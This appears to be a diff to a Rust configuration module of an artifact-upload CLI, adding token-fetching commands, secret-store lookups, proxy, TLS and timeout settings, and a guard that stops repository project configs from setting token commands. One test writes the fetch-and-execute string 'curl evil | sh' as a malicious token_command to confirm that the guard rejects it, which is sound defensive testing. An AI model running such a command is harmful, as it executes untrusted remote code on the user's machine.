@@ -1,7 +1,14 @@
+use crate::api::proxy::ProxyOptions;
+use crate::budget::BudgetAction;
+use crate::deprecations;
 use crate::error::Result;
+use crate::integrations::docker::mounted_config_path;
+use crate::secrets::TokenSecret;
+use crate::units::{ByteSize, HumanDuration};
 use directories::ProjectDirs;
 use log::debug;
 use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
 use std::path::PathBuf;
 
 /// Configuration loaded from JSON file
@@ -10,11 +17,85 @@ pub struct FileConfig {
     #[serde(skip_serializing_if = "Option::is_none")]
     pub api_token: Option<String>,
 
+    /// Command printing the API token, run when no token is given otherwise, e.g.
+    /// `op read op://ci/nunu/token`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub token_command: Option<String>,
+
+    /// Vault or AWS Secrets Manager secret holding the API token, read when no token is
+    /// given otherwise
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub token_secret: Option<TokenSecret>,
+
     #[serde(skip_serializing_if = "Option::is_none")]
     pub project_id: Option<String>,
 
     #[serde(skip_serializing_if = "Option::is_none")]
     pub api_url: Option<String>,
+
+    /// API URLs to fail over to, in order, when `api_url` is unreachable
+    #[serde(default, skip_serializing_if = "Vec::is_empty")]
+    pub api_fallback_urls: Vec<String>,
+
+    /// Path of the health check of the fallback API URLs, `/health` unless set
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub api_health_path: Option<String>,
+
+    /// Custom metadata attached to every upload
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub metadata: BTreeMap<String, String>,
+
+    /// Readable project aliases mapped to project IDs, usable wherever a project ID is
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub projects: BTreeMap<String, String>,
+
+    /// Maximum artifact size per platform (or `ios`), e.g. `{"android": "150MB"}`
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub size_budgets: BTreeMap<String, ByteSize>,
+
+    /// Whether exceeding a size budget fails the upload or only warns
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub size_budget_action: Option<BudgetAction>,
+
+    /// Proxies for API requests and storage uploads, used instead of the proxy environment
+    /// variables; `--proxy`, `--storage-proxy` and `--proxy-user` override them
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub proxy: Option<ProxyOptions>,
+
+    /// PEM file with extra root certificates to trust, e.g. the internal CA of a
+    /// TLS-intercepting proxy; `--cacert` overrides it
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub ca_bundle: Option<PathBuf>,
+
+    /// PEM client certificate (and key, unless `client_key` is set) for API gateways that
+    /// require mutual TLS; `--client-cert` and `--client-key` override them
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub client_cert: Option<PathBuf>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub client_key: Option<PathBuf>,
+
+    /// How long connecting, a whole API request, and an upload sending no data may take,
+    /// e.g. `"30s"` (numbers are seconds, `0` disables the timeout); `--connect-timeout`,
+    /// `--request-timeout` and `--stall-timeout` override them
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub connect_timeout: Option<HumanDuration>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub request_timeout: Option<HumanDuration>,
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub stall_timeout: Option<HumanDuration>,
+
+    /// Set to `false` to stop attaching VCS metadata (commit, author, message, branch) to
+    /// uploads, like `--no-vcs-metadata`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub collect_vcs_metadata: Option<bool>,
+
+    /// Set to `false` to stop attaching CI metadata to uploads, like `--no-ci-metadata`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub collect_ci_metadata: Option<bool>,
+
+    /// Set to `false` to stop attaching the local user name to uploads, like `--no-uploader`
+    #[serde(skip_serializing_if = "Option::is_none")]
+    pub collect_uploader: Option<bool>,
 }
 
 impl FileConfig {
@@ -34,7 +115,7 @@ impl FileConfig {
             ))
         })?;
 
-        let config: FileConfig = serde_json::from_str(&contents).map_err(|e| {
+        let mut value: serde_json::Value = serde_json::from_str(&contents).map_err(|e| {
             crate::error::Error::ConfigError(format!(
                 "Failed to parse config file '{}' as valid JSON: {}\n\
                  Please check for syntax errors (missing/extra commas, quotes, brackets, etc.)",
@@ -42,6 +123,13 @@ impl FileConfig {
                 e
             ))
         })?;
+        deprecations::migrate_config(&mut value)?;
+        let config: FileConfig = serde_json::from_value(value).map_err(|e| {
+            crate::error::Error::ConfigError(format!(
+                "Invalid config file '{}': {e}",
+                path.display()
+            ))
+        })?;
 
         Ok(config)
     }
@@ -50,6 +138,7 @@ impl FileConfig {
     /// 1. Explicit path (if provided)
     /// 2. Project directory (./nunu.json or ./.nunu/config.json)
     /// 3. User config directory (~/.config/nunu/config.json)
+    /// 4. Docker secret (`/run/secrets/nunu_config`)
     ///
     /// # Errors
     ///
@@ -69,7 +158,7 @@ impl FileConfig {
         for path in &project_paths {
             if path.exists() {
                 // If config file exists, it must be valid - fail fast with clear error
-                return Self::load_from_path(path).inspect(|_config| {
+                return Self::load_project_config(path).inspect(|_config| {
                     debug!("Loaded config from project directory: {}", path.display());
                 });
             }
@@ -89,18 +178,102 @@ impl FileConfig {
             }
         }
 
+        // Try a config file mounted as a Docker secret
+        if let Some(path) = mounted_config_path() {
+            return Self::load_from_path(&path).inspect(|_config| {
+                debug!("Loaded config from Docker secret: {}", path.display());
+            });
+        }
+
         // No config file found, return empty config
         debug!("No config file found, using defaults");
         Ok(FileConfig::default())
     }
 
+    /// Load a config file found in the current directory
+    ///
+    /// Project configs come with whatever repository is checked out, so they may not set
+    /// `token_command` or `token_secret`: running a command or contacting a secret store
+    /// named by a repository would hand the machine and its secrets to anyone who can push.
+    fn load_project_config(path: &PathBuf) -> Result<Self> {
+        let config = Self::load_from_path(path)?;
+        if config.token_command.is_some() || config.token_secret.is_some() {
+            return Err(crate::error::Error::ConfigError(format!(
+                "Project config '{}' sets token_command or token_secret, which are only read from the user config file or one passed with --config",
+                path.display()
+            )));
+        }
+        Ok(config)
+    }
+
+    /// Resolve a project alias to its ID; anything that is not an alias is returned unchanged
+    #[must_use]
+    pub fn resolve_project(&self, project: String) -> String {
+        match self.projects.get(&project) {
+            Some(id) => {
+                debug!("Resolved project alias '{project}' to {id}");
+                id.clone()
+            }
+            None => project,
+        }
+    }
+
     /// Merge with another config, preferring values from self
     #[must_use]
     pub fn merge_with(&self, other: &FileConfig) -> Self {
         FileConfig {
             api_token: self.api_token.clone().or_else(|| other.api_token.clone()),
+            token_command: self
+                .token_command
+                .clone()
+                .or_else(|| other.token_command.clone()),
+            token_secret: self
+                .token_secret
+                .clone()
+                .or_else(|| other.token_secret.clone()),
             project_id: self.project_id.clone().or_else(|| other.project_id.clone()),
             api_url: self.api_url.clone().or_else(|| other.api_url.clone()),
+            api_fallback_urls: if self.api_fallback_urls.is_empty() {
+                other.api_fallback_urls.clone()
+            } else {
+                self.api_fallback_urls.clone()
+            },
+            api_health_path: self
+                .api_health_path
+                .clone()
+                .or_else(|| other.api_health_path.clone()),
+            metadata: other
+                .metadata
+                .iter()
+                .chain(&self.metadata)
+                .map(|(k, v)| (k.clone(), v.clone()))
+                .collect(),
+            projects: other
+                .projects
+                .iter()
+                .chain(&self.projects)
+                .map(|(k, v)| (k.clone(), v.clone()))
+                .collect(),
+            size_budgets: other
+                .size_budgets
+                .iter()
+                .chain(&self.size_budgets)
+                .map(|(k, v)| (k.clone(), *v))
+                .collect(),
+            size_budget_action: self.size_budget_action.or(other.size_budget_action),
+            proxy: self.proxy.clone().or_else(|| other.proxy.clone()),
+            ca_bundle: self.ca_bundle.clone().or_else(|| other.ca_bundle.clone()),
+            client_cert: self
+                .client_cert
+                .clone()
+                .or_else(|| other.client_cert.clone()),
+            client_key: self.client_key.clone().or_else(|| other.client_key.clone()),
+            connect_timeout: self.connect_timeout.or(other.connect_timeout),
+            request_timeout: self.request_timeout.or(other.request_timeout),
+            stall_timeout: self.stall_timeout.or(other.stall_timeout),
+            collect_vcs_metadata: self.collect_vcs_metadata.or(other.collect_vcs_metadata),
+            collect_ci_metadata: self.collect_ci_metadata.or(other.collect_ci_metadata),
+            collect_uploader: self.collect_uploader.or(other.collect_uploader),
         }
     }
 }
@@ -115,12 +288,22 @@ mod tests {
             api_token: Some("token1".to_string()),
             project_id: None,
             api_url: Some("url1".to_string()),
+            metadata: BTreeMap::from([("studio".to_string(), "berlin".to_string())]),
+            projects: BTreeMap::from([("shooter-dev".to_string(), "proj_abc123".to_string())]),
+            ..FileConfig::default()
         };
 
         let config2 = FileConfig {
             api_token: Some("token2".to_string()),
             project_id: Some("project2".to_string()),
             api_url: Some("url2".to_string()),
+            metadata: BTreeMap::from([
+                ("studio".to_string(), "remote".to_string()),
+                ("engine".to_string(), "unity".to_string()),
+            ]),
+            projects: BTreeMap::from([("shooter-dev".to_string(), "proj_old".to_string())]),
+            collect_uploader: Some(false),
+            ..FileConfig::default()
         };
 
         let merged = config1.merge_with(&config2);
@@ -128,5 +311,33 @@ mod tests {
         assert_eq!(merged.api_token, Some("token1".to_string()));
         assert_eq!(merged.project_id, Some("project2".to_string()));
         assert_eq!(merged.api_url, Some("url1".to_string()));
+        assert_eq!(merged.metadata["studio"], "berlin");
+        assert_eq!(merged.metadata["engine"], "unity");
+        assert_eq!(merged.collect_uploader, Some(false));
+        assert_eq!(merged.collect_vcs_metadata, None);
+        assert_eq!(
+            merged.resolve_project("shooter-dev".to_string()),
+            "proj_abc123"
+        );
+        assert_eq!(merged.resolve_project("proj_xyz".to_string()), "proj_xyz");
+    }
+
+    #[test]
+    fn test_project_config_cannot_fetch_tokens() {
+        let dir = tempfile::tempdir().unwrap();
+        let path = dir.path().join("nunu.json");
+        std::fs::write(
+            &path,
+            r#"{"project_id": "p", "token_command": "curl evil | sh"}"#,
+        )
+        .unwrap();
+        let error = FileConfig::load_project_config(&path).unwrap_err();
+        assert!(error.to_string().contains("token_command"));
+        // The same file is trusted when passed explicitly
+        let config = FileConfig::load_with_fallback(Some(&path)).unwrap();
+        assert_eq!(config.token_command.as_deref(), Some("curl evil | sh"));
+
+        std::fs::write(&path, r#"{"project_id": "p"}"#).unwrap();
+        assert!(FileConfig::load_project_config(&path).is_ok());
     }
 }